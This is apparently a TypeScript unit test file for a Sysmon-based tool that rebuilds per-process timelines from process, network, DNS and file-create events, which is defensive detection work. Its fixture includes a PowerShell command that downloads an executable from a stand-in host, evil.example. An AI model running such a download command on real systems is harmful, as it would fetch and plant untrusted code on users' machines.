import { test } from 'node:test';
import assert from 'node:assert/strict';

import { STORY_DNS_LIMIT, StoryCollector } from '../../src/story/story.js';
import { connect, dnsQuery, fileCreate, guid, sysmonStart } from './builders.js';

const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
const CMD = 'C:\\Windows\\System32\\cmd.exe';

function collectorWithPowershell(): StoryCollector {
  const collector = new StoryCollector();
  collector.add(sysmonStart({ guid: guid(1), pid: 400, image: CMD, at: '15:00:00.000' }));
  collector.add(
    sysmonStart({
      guid: guid(2),
      pid: 500,
      image: POWERSHELL,
      commandLine: 'powershell -c iwr http://evil.example/a.exe -O a.exe',
      parentGuid: guid(1),
      at: '15:04:23.545',
    }),
  );
  return collector;
}

test('StoryCollector.storyOf orders steps by their own UtcTime, not the order logged', () => {
  const collector = collectorWithPowershell();
  // As in sytemmoon-ctf/sysmon.evtx: the Event ID 3 is stamped 5 ms before its DNS answer.
  collector.add(fileCreate(guid(2), 'C:\\Users\\u\\a.exe', '15:04:27.273'));
  collector.add(connect(guid(2), '203.0.113.7', '15:04:27.263'));
  collector.add(dnsQuery(guid(2), 'evil.example', '::ffff:203.0.113.7;', '15:04:27.268'));

  const key = collector.table.findByGuid('WS01', guid(2))?.key ?? '';
  const story = collector.storyOf(key);
  assert.ok(story);
  assert.deepEqual(
    story.steps.map((step) => [step.step, step.time, step.summary]),
    [
      [
        'process-start',
        '2024-05-01T15:04:23.5450000Z',
        'powershell -c iwr http://evil.example/a.exe -O a.exe',
      ],
      ['network', '2024-05-01T15:04:27.2630000Z', 'tcp 10.0.0.5:50100 -> 203.0.113.7:443'],
      ['dns', '2024-05-01T15:04:27.2680000Z', 'evil.example -> ::ffff:203.0.113.7'],
      ['file-create', '2024-05-01T15:04:27.2730000Z', 'C:\\Users\\u\\a.exe'],
    ],
  );
  assert.deepEqual(
    story.steps.map((step) => step.evidence.eventId),
    [1, 3, 22, 11],
  );
  assert.deepEqual(
    story.parents.ancestors.map((node) => node.image),
    [CMD],
  );
  assert.equal(story.parents.end, 'root');
  assert.equal(story.dropped, undefined);
});

test('StoryCollector.storyOf keeps steps with equal times in the order they were logged', () => {
  const collector = collectorWithPowershell();
  collector.add(connect(guid(2), '203.0.113.7', '15:05:00.000'));
  collector.add(fileCreate(guid(2), 'C:\\Users\\u\\b.txt', '15:05:00.000'));
  collector.add(dnsQuery(guid(2), 'later.example', '::ffff:203.0.113.9;', '15:05:00.000'));

  const key = collector.table.findByGuid('WS01', guid(2))?.key ?? '';
  const steps = collector.storyOf(key)?.steps ?? [];
  assert.deepEqual(
    steps.map((step) => step.step),
    ['process-start', 'network', 'file-create', 'dns'],
  );
});

test('StoryCollector keeps STORY_DNS_LIMIT queries per process and counts the rest', () => {
  const collector = collectorWithPowershell();
  for (let i = 0; i < STORY_DNS_LIMIT + 3; i++) {
    collector.add(dnsQuery(guid(2), `n${i}.example`, '::ffff:198.51.100.1;', '15:06:00.000'));
  }

  const key = collector.table.findByGuid('WS01', guid(2))?.key ?? '';
  assert.equal(collector.activitiesOf(key)?.dns.length, STORY_DNS_LIMIT);
  assert.deepEqual(collector.storyOf(key)?.dropped, { dns: 3, connections: 0, files: 0 });
});

test('StoryCollector: a process seen only acting has a story without a start step', () => {
  const collector = new StoryCollector();
  collector.add(connect(guid(7), '203.0.113.7', '15:05:00.000'));

  const keys = [...collector.keys()];
  const story = collector.storyOf(keys[0] ?? '');
  assert.equal(keys.length, 1);
  assert.equal(story?.process.knownAs, 'seen');
  assert.deepEqual(
    story?.steps.map((step) => step.step),
    ['network'],
  );
  assert.equal(story?.parents.end, 'start-not-logged');
});

test('StoryCollector.keys lists only processes that queried, connected or wrote a file', () => {
  const collector = collectorWithPowershell();
  assert.deepEqual([...collector.keys()], []);
  assert.equal(collector.storyOf('no such key'), undefined);
  assert.equal(collector.table.size, 2);
});
